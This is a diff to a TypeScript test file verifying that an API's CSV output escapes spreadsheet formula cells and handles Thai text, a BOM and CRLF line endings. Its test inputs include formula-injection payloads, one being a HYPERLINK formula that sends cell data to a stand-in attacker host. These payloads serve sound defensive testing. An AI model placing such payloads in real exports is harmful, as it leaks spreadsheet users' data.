@@ -8,7 +8,7 @@ describe('every CSV the API writes', () => {
   it.each(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=1', '＝1'])(
     'escapes a cell that a spreadsheet would run as a formula: %j',
     (reason) => {
-      const [, record] = parse(csv(reason).replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
+      const [, record] = parse(csv(reason).replace(/^\uFEFF/, ''), { relax_column_count: true });
       expect(record[0]).toBe(`'${reason}`);
     },
   );
@@ -17,7 +17,7 @@ describe('every CSV the API writes', () => {
     const text = csv('งบประมาณถูกปรับลด, ตามมติที่ประชุม "ครั้งที่ 2/2562"');
     expect(text.startsWith('\uFEFF')).toBe(true);
     expect(text).toContain('\r\n');
-    const [, record] = parse(text.replace(/^\uFEFF/, '')) as string[][];
+    const [, record] = parse(text.replace(/^\uFEFF/, ''));
     expect(record).toEqual(['งบประมาณถูกปรับลด, ตามมติที่ประชุม "ครั้งที่ 2/2562"', '-1500', '{"a":1}']);
   });
 });
